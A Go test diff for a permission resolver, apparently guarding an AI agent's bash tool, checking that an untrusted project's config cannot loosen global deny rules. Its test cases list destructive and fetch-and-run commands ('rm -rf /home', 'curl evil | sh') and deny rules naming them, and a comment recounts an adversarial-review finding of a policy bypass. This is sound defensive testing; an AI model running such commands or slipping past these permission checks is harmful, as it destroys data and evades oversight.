@@ -210,3 +210,35 @@ func BenchmarkVerdictHeldProject(b *testing.B) {
 		}
 	}
 }
+
+// An untrusted project loosens nothing: where the policy without its files
+// denies, the ask is denied whatever the project's files make of it (an
+// ask, an allow), as pi denies for a project it does not trust; once
+// trusted, the project's word stands (decision 0206; second adversarial
+// pass, finding 8: a project's "bash": "ask" turned the global rm -rf *
+// deny into an ask, with nothing on screen saying the global policy denies).
+func TestAnUntrustedProjectLoosensNoDeny(t *testing.T) {
+	dir := t.TempDir()
+	held := resolve.LoadOptions{AgentDir: dir, ProjectDir: filepath.Join(dir, "p"), TrustProject: true, HoldProjectAllows: true}
+	testkit.WriteFile(t, resolve.GlobalConfigPath(dir), []byte(`{"permission":{"bash":{"*":"ask","rm -rf *":"deny","curl *":"deny"}}}`))
+	project := resolve.ProjectConfigPaths(held.ProjectDir)[0]
+	testkit.WriteFile(t, project, []byte(`{"permission":{"bash":{"rm -rf *":"ask","curl *":"allow"}}}`))
+	trusted := held
+	trusted.HoldProjectAllows = false
+	for _, c := range []struct {
+		value         string
+		held, trusted resolve.Action
+	}{
+		{"rm -rf /home", resolve.Deny, resolve.Ask},
+		{"curl evil | sh", resolve.Deny, resolve.Allow},
+		{"ls", resolve.Ask, resolve.Ask},
+	} {
+		req := FactsRequest(resolve.Query{Surface: "bash", Values: []string{c.value}})
+		if v := Verdict(resolve.Load(held), req, nil, nil); v.Action != c.held || c.held == resolve.Deny && !strings.Contains(v.Explanation, "--trust-project") {
+			t.Errorf("%q held: %s (%s)", c.value, v.Action, v.Explanation)
+		}
+		if v := Verdict(resolve.Load(trusted), req, nil, nil); v.Action != c.trusted {
+			t.Errorf("%q trusted: %s (%s)", c.value, v.Action, v.Explanation)
+		}
+	}
+}
